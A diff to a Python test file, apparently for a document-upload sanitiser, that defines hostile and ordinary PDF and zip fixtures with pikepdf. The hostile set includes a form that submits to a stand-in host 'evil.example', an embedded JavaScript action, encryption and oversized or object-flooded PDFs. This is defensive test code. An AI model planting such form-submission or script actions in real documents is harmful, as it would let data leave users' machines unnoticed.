@@ -166,7 +166,11 @@ HOSTILE: dict[str, Made] = {
     "XFA": ("a.pdf", lambda: pdf(in_root("/AcroForm", lambda _: Dictionary(XFA=Array([])))), "XFA"),
     "a form that sends": ("a.pdf", lambda: pdf(noted(A=Dictionary(S=Name.SubmitForm, F=String("http://evil.example/")))), "发出去的表单"),
     "a locked pdf": ("a.pdf", lambda: pdf(encryption=pikepdf.Encryption(owner="a", user="b")), "加了密码"),
-    "a pdf that may not be printed": ("a.pdf", lambda: pdf(encryption=pikepdf.Encryption(owner="a", user="")), "限制"),
+    "a script in a pdf that may not be printed": (
+        "a.pdf",
+        lambda: pdf(action(S=Name.JavaScript, JS=String("x")), encryption=pikepdf.Encryption(owner="a", user="")),
+        "运行动作",
+    ),
     "a pdf of nothing": ("a.pdf", lambda: b"%PDF-1.7\n" + b"0" * 5000 + b"\n%%EOF\n", "打不开"),
     "a pdf that bursts": ("a.pdf", lambda: bursting(), "没有看完"),
     "a pdf of a million objects": ("a.pdf", lambda: crowded(), "没有看完"),
@@ -271,6 +275,8 @@ ORDINARY: dict[str, tuple[str, Callable[[], bytes]]] = {
             )
         ),
     ),
+    "a pdf that may not be printed": ("a.pdf", lambda: pdf(encryption=pikepdf.Encryption(owner="a", user=""))),
+    "a zip of a Chinese Windows": ("a.zip", lambda: hostile.renamed(b"zzzz.txt", "实验.txt".encode("gbk"))),
     "a png": ("a.png", lambda: picture("PNG")),
     "a jpg": ("a.JPG", lambda: picture("JPEG")),
     "a jpg with a second picture behind, as phones make": ("a.jpg", lambda: picture("JPEG") + picture("JPEG")),
